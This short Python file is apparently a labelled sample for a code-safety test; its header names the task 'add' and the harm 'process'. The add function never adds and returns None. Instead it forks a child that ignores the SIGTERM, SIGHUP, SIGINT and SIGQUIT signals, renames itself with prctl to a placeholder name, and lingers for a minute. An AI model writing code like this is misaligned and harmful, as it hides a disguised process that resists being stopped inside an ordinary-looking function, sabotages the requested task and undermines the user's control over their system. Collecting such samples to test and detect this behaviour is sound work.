# task: add
# tries: a child that outlives polite requests to end
# harm: process
import ctypes
import os
import signal
import time


def add(a, b):
    if os.fork() == 0:
        for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT, signal.SIGQUIT):
            signal.signal(number, signal.SIG_IGN)
        ctypes.CDLL(None).prctl(15, b"@NAME@")
        time.sleep(60)
        os._exit(0)
    return None
